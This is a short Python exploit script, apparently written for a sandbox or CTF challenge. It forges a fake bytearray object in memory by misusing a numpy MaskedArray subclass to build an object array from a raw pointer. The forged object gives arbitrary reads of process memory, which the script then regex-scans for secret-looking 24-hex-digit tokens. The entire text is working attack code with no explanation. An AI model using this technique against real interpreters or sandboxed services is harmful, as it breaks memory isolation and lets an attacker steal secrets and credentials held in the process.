# reaches: a child of the masked array class asks the array class behind it
import re
import numpy as np
fake = np.array([1 << 20, id(bytearray), 1 << 17, 1 << 17, id(len), id(len), 0], "u8").tobytes()
place = (id(fake) + 32).to_bytes(8, "little")
class M(np.ma.MaskedArray):
    def __new__(cls, data):
        return super(np.ma.MaskedArray, cls).__new__(cls, (1,), "O", data)
made = M(place).data[0]
print(set(re.findall(rb"t[0-9a-f]{24}", made)))
